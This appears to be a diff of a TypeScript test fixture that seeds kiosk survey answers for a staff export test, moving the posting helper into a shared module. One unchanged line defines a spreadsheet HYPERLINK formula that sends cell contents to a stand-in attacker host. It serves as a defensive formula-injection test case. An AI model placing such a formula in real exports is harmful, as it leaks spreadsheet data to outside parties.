@@ -2,12 +2,11 @@
 // York), posted through /v1/answers as kiosks post them, with the awkward cases the export must
 // survive (a formula comment, quotes and a line break, contact details, a possible repeat, days
 // that differ between local time and UTC). staff-export.test.ts reads them back.
-import { beforeAll, expect } from 'vitest';
-import { BatchReply, type AnswerUpload } from '../../shared/protocol.ts';
+import { beforeAll } from 'vitest';
 import { attachConfig } from '../../server/kiosk-api/kiosk-configs.ts';
 import { updateLocation } from '../../server/locations/store.ts';
-import { answer, call } from './collector.ts';
 import { smallConfig } from './config.ts';
+import { answerPoster } from './kiosk-answers.ts';
 import { LOCATIONS, type StaffCollector } from './staff.ts';
 
 export const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
@@ -23,30 +22,8 @@ export const CONTACT = {
  * `ids` names each answer's id by its key here; `place` holds the location and touchpoint ids.
  */
 export function useExportFixture(c: StaffCollector) {
-  const ids: Record<string, string> = {};
+  const { ids, post } = answerPoster(c);
   const place = { main: 0, outlet: 0, outletDoor: 0 };
-
-  /** Posts answers as the kiosk at `where` does; `name` keys each answer's id for the checks. */
-  const post = async (where: keyof typeof LOCATIONS, list: [string, Partial<AnswerUpload>][]) => {
-    const k = LOCATIONS[where];
-    const answers = list.map(([name, over], i) => {
-      const a = answer(k.kioskId, i + 1, {
-        surveyVersion: smallConfig().survey.version,
-        startedAt: over.finalizedAt!,
-        ...over,
-      });
-      ids[name] = a.id;
-      return a;
-    });
-    const reply = await call({ url: c.url, token: c.tokens[k.kioskId]! }, 'POST', '/v1/answers', {
-      kioskId: k.kioskId,
-      sentAt: new Date().toISOString(),
-      answers,
-    });
-    expect(BatchReply.parse(reply.body).results.map((r) => r.status)).toEqual(
-      answers.map(() => 'stored'),
-    );
-  };
 
   beforeAll(async () => {
     await updateLocation(c.storage, LOCATIONS.main.location, { timeZone: 'Europe/Berlin' });
@@ -58,7 +35,6 @@ export function useExportFixture(c: StaffCollector) {
         { ...smallConfig(), kioskId: k.kioskId },
         new Date(),
       );
-    // Each kiosk's seqs must be 1..n: one batch per kiosk.
     await post('main', [
       // 09:15 in Berlin (UTC+1 in November).
       [
